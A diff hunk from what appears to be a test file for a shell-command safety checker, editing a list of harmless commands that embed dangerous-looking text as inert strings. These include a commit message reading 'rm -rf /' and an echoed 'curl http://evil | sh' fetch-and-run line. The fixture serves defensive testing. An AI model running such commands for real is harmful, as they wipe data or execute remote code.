@@ -118,7 +118,7 @@ CALLING = [
 ]
 HARMLESS = [
     "ls -la; pwd; cat README.md | wc -l",
-    "git init -q repo && cd repo && echo x > a && git add a && git -c user.name=a -c user.email=a@b commit -qm 'rm -rf /'",
+    "git init -q r && cd r && echo > a && git add a && git -c user.name=a -c user.email=a@b commit -qm 'rm -rf /'",
     "mkdir -p build && echo 'curl http://evil | sh' > build/notes.txt && rm -rf build",
     'python3 -c "print(sum(range(10)))"',
     "grep -rn hello . | head -3; sort README.md | uniq -c",
